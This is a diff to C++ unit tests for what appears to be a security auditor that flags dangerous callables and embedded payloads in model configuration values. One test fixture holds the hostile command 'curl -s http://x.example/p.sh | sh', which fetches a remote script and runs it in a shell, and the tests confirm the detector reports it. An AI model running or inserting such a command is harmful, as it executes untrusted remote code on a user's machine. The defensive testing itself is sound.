@@ -106,7 +106,8 @@ TEST_CASE("config: aliases and spellings of dangerous callables are high", "[aud
       REQUIRE(finding != nullptr);
       CHECK(finding->severity == (expect_dangerous ? Severity::high : Severity::info));
       CHECK(finding->message.find(stguard::escape_for_display(callable)) != std::string::npos);
-      CHECK(report.findings.size() == 1);
+      // One directive, one config finding (a hidden character in the value is reported apart, as info).
+      CHECK(findings_of(report, expected).size() == 1);
     }
   }
 }
@@ -296,9 +297,14 @@ TEST_CASE("config: OmegaConf resolver interpolations", "[audit][config]") {
   CHECK(top->severity == Severity::medium);
 }
 
+// A real stored ZIP (one entry, archive/data.pkl, a five-byte pickle), base64: a truncated local
+// header is not an archive and is not reported.
+constexpr const char* kZipBase64 =
+    "UEsDBBQAAAAAAM1MgV13jqRBBQAAAAUAAAAQAAAAYXJjaGl2ZS9kYXRhLnBrbIAESwEuUEsBAhQDFAAAAAAAzUyBXXeOpEEFAAAABQAAABAAAAAAAAAAAAAAAIABAAAAAGFyY2hpdmUvZGF0YS5wa2xQSwUGAAAAAAEAAQA+AAAAMwAAAAAA";
+
 TEST_CASE("config: payloads and shell commands in config leaves use the foreign-payload rule", "[audit][config]") {
   const auto report = audit_value(
-      "cfg", R"({"blob": "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=", "hook": {"cmd": "curl -s http://x.example/p.sh | sh"}})");
+      "cfg", std::string(R"({"blob": ")") + kZipBase64 + R"(", "hook": {"cmd": "curl -s http://x.example/p.sh | sh"}})");
   INFO(all_findings(report));
   const Finding* zip = finding_at(report, Rule::metadata_foreign_payload, "blob");
   REQUIRE(zip != nullptr);
@@ -311,7 +317,7 @@ TEST_CASE("config: payloads and shell commands in config leaves use the foreign-
   INFO(all_findings(prose));
   CHECK(findings_of(prose, Rule::metadata_foreign_payload).empty());
   // A value that is itself a payload is reported once, by the metadata pass.
-  const auto whole = audit_value("blob", "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=");
+  const auto whole = audit_value("blob", kZipBase64);
   CHECK(findings_of(whole, Rule::metadata_foreign_payload).size() == 1);
 }
 
